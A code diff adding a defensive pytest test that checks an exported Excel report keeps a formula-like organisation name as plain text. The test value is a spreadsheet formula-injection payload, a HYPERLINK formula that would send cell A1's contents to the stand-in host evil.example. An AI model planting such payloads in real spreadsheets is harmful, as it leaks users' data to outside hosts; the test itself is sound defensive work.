@@ -267,6 +267,19 @@ def test_xlsx_opens_with_the_same_counts_and_no_participant_name(report_world):
         assert not any(name in cell for cell in cells)
 
 
+def test_xlsx_keeps_formula_like_names_as_text(report_world):
+    """An organisation imported from someone's spreadsheet must not become a formula Excel runs on opening."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    report_world.host.name = evil
+    report_world.host.save()
+    content, _name = report_xlsx(report_world.project)
+
+    workbook = load_workbook(io.BytesIO(content))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert [cell.value for cell in cells if cell.value == evil]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+
+
 def test_xlsx_is_the_same_bytes_for_the_same_figures(report_world):
     first, _name = report_xlsx(report_world.project)
     second, _name = report_xlsx(report_world.project)
